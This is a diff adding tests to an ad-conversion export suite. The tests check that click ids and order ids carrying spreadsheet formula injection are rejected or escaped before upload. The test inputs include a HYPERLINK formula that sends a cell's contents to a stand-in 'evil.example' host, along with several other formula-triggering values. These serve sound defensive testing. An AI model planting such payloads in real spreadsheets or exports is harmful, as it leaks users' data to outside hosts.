@@ -251,6 +251,21 @@ describe.each(offlinePlatformNames)('%s leaves out, and says why', (platform) =>
     expect(reasonOf({ touches })[0]).toContain(reason);
   });
 
+  test('conversions whose click id cannot be one, but none that has another', () => {
+    for (const clickId of [
+      ...['=HYPERLINK("https://evil.example/?"&A3,"ok")', '=1', '+1', '-1', '@SUM(1)', '\t=1', '\r=1', '＝1'],
+      ...["'=1", 'a b', 'a,b', 'a;=1', 'a"b', 'a\n=1', 'a\0', 'ä', '.'],
+    ]) {
+      const wrong = touch({ ...half, clickIdKind, clickId });
+      expect(reasonOf({ touches: [wrong] })[0]).toMatch(
+        /^What came as a .+ has characters that no click id has\.$/,
+      );
+      expect(reasonOf({ touches: [wrong, touch({ clickIdKind })] })).toEqual([]);
+    }
+    for (const clickId of ['Cj0KC_-x.y~Z', '_a', '0', 'E.C.P.x', '9b1c6a0e-2f3d-4c5b-8a7e-1d2c3b4a5f60'])
+      expect(reasonOf({ touches: [touch({ clickIdKind, clickId })] })).toEqual([]);
+  });
+
   test('clicks that are too old, or not before the conversion', () => {
     const occurredTime = now - day;
     expect(reasonOf({ touches: [touch({ clickIdKind, occurredTime: occurredTime - 90 * day })] })).toEqual(
@@ -324,6 +339,30 @@ describe('what a platform is told', () => {
       '+0000,1,0.07,',
     );
   });
+
+  test.each(['=1+2', '+1', '-1', '@a', '\t=1', '\r=1', '\n=1', '＝1'])(
+    'is no order id %j in a table, which a spreadsheet would run; elsewhere it is told as it is',
+    (orderId) => {
+      const reason = 'A spreadsheet would take its order id for a formula.';
+      const by = (platform: OfflinePlatform, given: Partial<OfflineConversion> = { orderId }) => {
+        const touches = [touch({ clickIdKind: kinds[platform] })];
+        return toldBy('last', platform, conversion({ refundedTime: now, touches, ...given }));
+      };
+      for (const platform of ['google-ads', 'google-ads-adjustments'] as const) {
+        expect(by(platform)).toMatchObject({ files: [], leftOut: [{ reason }] });
+        expect(by(platform, { orderId: null, id: '-1' }).leftOut).toMatchObject([{ reason }]);
+        expect(by(platform, { orderId: "'=1" }).files[0]).toMatch(/[,\n]'=1[,\r]/);
+      }
+      for (const platform of [
+        'google-ads-multi-touch',
+        'microsoft-ads',
+        'microsoft-ads-adjustments',
+      ] as const)
+        expect(by(platform).rows).toEqual([1]);
+      const [body = ''] = by('google-ads-api').files;
+      expect(JSON.parse(body).conversions).toMatchObject([{ orderId }]);
+    },
+  );
 
   test('is no second conversion of an order to Google, which would take neither', () => {
     const again = conversion({ id: 'con_2', occurredTime: now - 1000 });
